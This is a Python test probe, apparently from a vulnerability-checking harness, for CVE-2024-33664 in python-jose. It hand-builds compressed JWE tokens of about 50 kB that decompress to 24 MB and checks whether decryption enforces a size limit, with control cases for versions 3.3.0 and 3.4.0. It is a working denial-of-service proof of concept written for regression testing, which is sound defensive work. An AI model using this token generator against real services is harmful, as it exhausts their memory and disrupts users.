# /// vertice-probe
# id = "PYSEC-2024-233"
# aliases = ["CVE-2024-33664", "GHSA-cjwg-qfpm-7377"]
# package = "python-jose"
# summary = "A compressed encrypted token is unpacked whatever size it becomes, so a small one takes much memory."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:L" }]
# cwe = ["CWE-400"]
# kind = "dos"
# symbols = ["jose.jwe.decrypt"]
# needs = ["cryptography"]
#
# [[affected]]
# package = "python-jose"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "3.4.0" }] }]
#
# [cases]
# attack = "a token of some 50 kB is unpacked to 24 MB"
# [cases.variants]
# wrapped_key = "the same with a wrapped key and CBC encryption"
# [cases.controls]
# round_trip = "a small compressed token is decrypted, and refused with another key"
#
# [test]
# vulnerable = "3.3.0"
# fixed = "3.4.0"
# ///
"""CVE-2024-33664: compressed tokens without a limit."""

import base64
import hashlib
import hmac
import json
import struct
import sys
import warnings
import zlib

warnings.simplefilter("ignore")
LARGE = 24 * 1000 * 1000


def part(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=")


def encrypt(data, key, wrapped):
    """A compressed token made by hand: the package itself cannot encrypt with newer releases of cryptography."""
    from cryptography.hazmat.backends import default_backend
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
    from cryptography.hazmat.primitives.keywrap import aes_key_wrap

    squeezer = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS)
    squeezed = squeezer.compress(data) + squeezer.flush()
    names = ("A128KW", "A128CBC-HS256") if wrapped else ("dir", "A128GCM")
    header = part(json.dumps({"alg": names[0], "enc": names[1], "zip": "DEF"}).encode())
    if not wrapped:
        sealed = AESGCM(key).encrypt(b"i" * 12, squeezed, header)
        return b".".join([header, b"", part(b"i" * 12), part(sealed[:-16]), part(sealed[-16:])])
    content_key, padding = b"m" * 16 + b"e" * 16, 16 - len(squeezed) % 16
    cipher = Cipher(algorithms.AES(content_key[16:]), modes.CBC(b"i" * 16), default_backend()).encryptor()
    sealed = cipher.update(squeezed + struct.pack("B", padding) * padding) + cipher.finalize()
    signed = header + b"i" * 16 + sealed + struct.pack(">Q", 8 * len(header))
    tag = hmac.new(content_key[:16], signed, hashlib.sha256).digest()[:16]
    wrapped_key = aes_key_wrap(key, content_key, default_backend())
    return b".".join([header, part(wrapped_key), part(b"i" * 16), part(sealed), part(tag)])


def decrypt_and_look(wrapped):
    from jose import jwe
    from jose.exceptions import JWEError

    key = b"k" * 16
    if jwe.decrypt(encrypt(b"hello", key, wrapped), key) != b"hello":
        return "error", "a small token was not decrypted"
    token = encrypt(b"\0" * LARGE, key, wrapped)
    try:
        size = len(jwe.decrypt(token, key))
    except JWEError as error:
        if "Decompressed" not in str(error):
            raise
        return "blocked", "JWEError: %s; a small token was decrypted" % error
    if size == LARGE and len(token) * 100 < LARGE:
        return "exploited", "a token of less than %d bytes was unpacked to %d" % (LARGE // 100, LARGE)
    return "error", "%d bytes were unpacked to %d" % (len(token), size)


def attack():
    return decrypt_and_look(wrapped=False)


def wrapped_key():
    return decrypt_and_look(wrapped=True)


def round_trip():
    from jose import jwe
    from jose.exceptions import JWEError

    text = b"order 7 of bob; " * 200
    token = encrypt(text, b"k" * 16, wrapped=False)
    try:
        jwe.decrypt(token, b"w" * 16)
        refused = False
    except JWEError:
        refused = True
    good = jwe.decrypt(token, b"k" * 16) == text and refused
    return ("works", "decrypted, wrong key refused") if good else ("broken", "refused=%r" % refused)


CASES = {"attack": attack, "wrapped_key": wrapped_key, "round_trip": round_trip}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
